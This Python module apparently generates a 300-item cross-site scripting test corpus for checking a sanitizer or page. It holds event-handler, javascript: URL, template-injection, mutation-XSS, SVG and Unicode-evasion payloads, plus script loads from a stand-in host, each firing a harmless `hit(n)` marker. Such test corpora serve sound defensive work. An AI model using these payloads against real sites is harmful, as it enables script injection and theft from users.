"""What somebody would write to have a page run it: 300 texts, each of which calls `hit` with its number.

Every element that a text tries to make carries `data-hit`, so that markup is found even where it does nothing.
"""

COUNT = 300

# Elements that run something by themselves, or once they are touched.
ELEMENTS = [
    "<img data-hit src=x onerror={run}>",
    "<svg data-hit onload={run}>",
    "<details data-hit open ontoggle={run}>x</details>",
    "<video data-hit><source data-hit onerror={run}></video>",
    "<audio data-hit src=x onerror={run}></audio>",
    "<input data-hit autofocus onfocus={run}>",
    "<select data-hit autofocus onfocus={run}></select>",
    "<body data-hit onload={run}>",
    "<iframe data-hit onload={run}></iframe>",
    "<object data-hit data=x onerror={run}></object>",
    "<embed data-hit src=x onload={run}>",
    "<link data-hit rel=stylesheet href=x onerror={run}>",
    "<div data-hit onpointerenter={run} style='position:fixed;inset:0'>x</div>",
    "<p data-hit contenteditable autofocus onfocusin={run}>x</p>",
    "<a data-hit tabindex=0 autofocus onfocus={run}>x</a>",
    "<svg data-hit><animate data-hit onbegin={run} attributeName=x dur=1s></svg>",
    "<form data-hit onformdata={run}><button data-hit autofocus onfocus={run}>x</button></form>",
    "<script data-hit>{run}</script>",
]
# What has to be left first.
AROUND = [
    "{}", '">{}', "'>{}", "</textarea>{}", "</title>{}", "</script>{}", "</code></p>{}", "-->{}",
    "</template>{}", "</option></select>{}", "\n\n{}", "]]>{}",
]
ADDRESSES = [
    "<a data-hit href='javascript:{run}'>x</a>", "<a data-hit href='java\tscript:{run}'>x</a>",
    "<a data-hit href='&#106;avascript:{run}'>x</a>", "javascript:{run}", " JaVaScRiPt:{run}//https://example.com",
    "data:text/html,<script data-hit>{run}</script>", "vbscript:{run}",
    "<iframe data-hit src='javascript:parent.{run}'></iframe>",
    "<iframe data-hit srcdoc='<script>parent.{run}</script>'></iframe>",
    "<form data-hit action='javascript:{run}'><button data-hit autofocus>x</button></form>",
    "<base data-hit href='//hit.invalid/'>", "<script data-hit src='//hit.invalid/{n}.js'></script>",
    "<meta data-hit http-equiv=refresh content='0;url=javascript:{run}'>",
    "<img data-hit src='//hit.invalid/{n}.png'>", "<link data-hit rel=preload as=script href='//hit.invalid/{n}'>",
    "https://example.com/\"onmouseover=\"{run}",
]
ATTRIBUTES = [
    '" onfocus="{run}" autofocus data-hit x="', "' onfocus='{run}' autofocus data-hit x='", "` onerror=`{run}` data-hit x=`",
    '" style="animation-name:x" onanimationstart="{run}" data-hit="', "x onpointerover={run} data-hit ", '"/onclick={run}/data-hit/"',
    "&quot; onfocus=&quot;{run}&quot; autofocus data-hit x=&quot;", "\\\" onfocus=\\\"{run}\\\" data-hit ",
]
TEMPLATES = [
    "{{{{ {run} }}}}", "{{% raw %}}{run}{{% endraw %}}", "${{{run}}}", "#{{{run}}}", "<%= {run} %>", "[[{run}]]",
    "{{{{constructor.constructor('{run}')()}}}}", "{{{{{{{run}}}}}}}", "@({run})", "<# {run} #>", "{{{{ '<img data-hit src=x onerror={run}>'|safe }}}}",
    "{{% include \"{run}\" %}}",
]
QUOTED = [
    '","x":"</script><script data-hit>{run}</script>', "\\u003cimg data-hit src=x onerror={run}\\u003e", "]}}';{run}//", '"}};{run};//',
    "\\x3cscript\\x3e{run}\\x3c/script\\x3e", "'-{run}-'", "\\'-{run}//", "*/{run}/*", "\u2028{run}//", "`+{run}+`",
    "</script><!--<script data-hit>{run}", "\\\";{run}//",
]
STYLES = [
    "</style><img data-hit src=x onerror={run}>", "x{{background:url(javascript:{run})}}", "x{{width:expression({run})}}",
    "<style data-hit>@import '//hit.invalid/{n}.css';</style>", "<style data-hit>*{{display:none}}</style><!-- {run}",
    "<div data-hit style='background:url(//hit.invalid/{n})'>{run}</div>", "red;}}</style><script data-hit>{run}</script>",
    "<link data-hit rel=stylesheet href='data:text/css,*{{color:red}}'>{run}",
]
# What changes its meaning when it is written out and read again.
MUTATING = [
    "<noscript data-hit><p title='</noscript><img data-hit src=x onerror={run}>'>",
    "<math data-hit><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img data-hit src=x onerror={run}&gt;'>",
    "<svg data-hit></p><style><a id='</style><img data-hit src=x onerror={run}>'>",
    "<form data-hit><math><mtext></form><form><mglyph><style></math><img data-hit src=x onerror={run}>",
    "<template data-hit><img data-hit src=x onerror={run}></template>", "<xmp data-hit><p title='</xmp><img data-hit src=x onerror={run}>'>",
    "<svg data-hit><foreignObject><div><template></svg><img data-hit src=x onerror={run}>", "<table data-hit><td><svg><desc><td><img data-hit src=x onerror={run}>",
    "<svg data-hit><![CDATA[<img data-hit src=x onerror={run}>]]></svg>", "<select data-hit><style></select><img data-hit src=x onerror={run}></style>",
    "<!--><img data-hit src=x onerror={run}>-->", "<!-- --!><img data-hit src=x onerror={run}>", "<?x ><img data-hit src=x onerror={run}>", "<plaintext data-hit>{run}",
]
SVG = [
    "<svg data-hit><script data-hit>{run}</script></svg>", "<svg data-hit><a xlink:href='javascript:{run}'><text>x</text></a></svg>",
    "<svg data-hit><use href='data:image/svg+xml,<svg id=x onload={run}>#x'/></svg>", "<svg data-hit><set attributeName=onclick to={run}></svg>",
    "<svg data-hit><image href=x onerror={run}></svg>", "<math data-hit href='javascript:{run}'>x</math>",
]
UNICODE = [
    "\uff1cimg data-hit src=x onerror={run}\uff1e", "<\u200bimg data-hit src=x onerror={run}>", "\u202e>x=rorreno gmi< {run}", "<\u017fcript data-hit>{run}</\u017fcript>",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-", "<img\u00a0data-hit src=x onerror={run}>", "<img\x0cdata-hit src=x onerror={run}>", "\x1b]8;;javascript:{run}\x07x\x1b]8;;\x07",
    "<\x01img data-hit src=x onerror={run}>", "\ufeff<img data-hit src=x onerror={run}>", "\u2066<svg data-hit onload={run}>\u2069", "&lt;img data-hit src=x onerror={run}&gt;",
    "&#60;img data-hit src=x onerror={run}&#62;", "%3Cimg%20data-hit%20src=x%20onerror={run}%3E", "%253Cscript%253E{run}", "\U000e003cscript\U000e003e{run}", "<im\u0000g data-hit src=x onerror={run}>", "\u1680<svg/data-hit/onload={run}>",
]


def all_of_them():
    """In an order that has something of each family early."""
    wrapped = [around.format(element) for element in ELEMENTS for around in AROUND]
    others = [ADDRESSES, ATTRIBUTES, TEMPLATES, QUOTED, STYLES, MUTATING, SVG, UNICODE]
    texts = [text for family in others for text in family] + wrapped
    texts = [text for start in range(7) for text in texts[start::7]][:COUNT]
    made = [text.format(run=f"hit({n})", n=n) for n, text in enumerate(texts)]
    made = [text if f"hit({n})" in text else f"{text} hit({n})" for n, text in enumerate(made)]
    assert len(set(made)) == COUNT, f"{len(set(made))} payloads"
    return made
